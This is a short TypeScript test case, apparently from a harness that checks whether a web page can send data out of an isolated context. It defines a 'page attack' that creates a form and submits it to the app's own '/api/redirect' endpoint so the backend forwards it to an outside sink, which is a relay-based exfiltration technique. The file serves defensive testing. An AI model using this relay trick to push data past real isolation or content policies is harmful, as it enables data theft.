import type { PageAttack } from "../attack.ts";

export const attack: PageAttack = {
  from: "app page",
  what: "a form to the own backend, which sends it on",
  script: `
    const form = document.createElement("form");
    Object.assign(form, { method: "POST", action: "/api/redirect?to=" + encodeURIComponent(sink) });
    document.body.append(form);
    form.submit();
  `,
  click: true,
  plainConnects: ["chromium"],
};
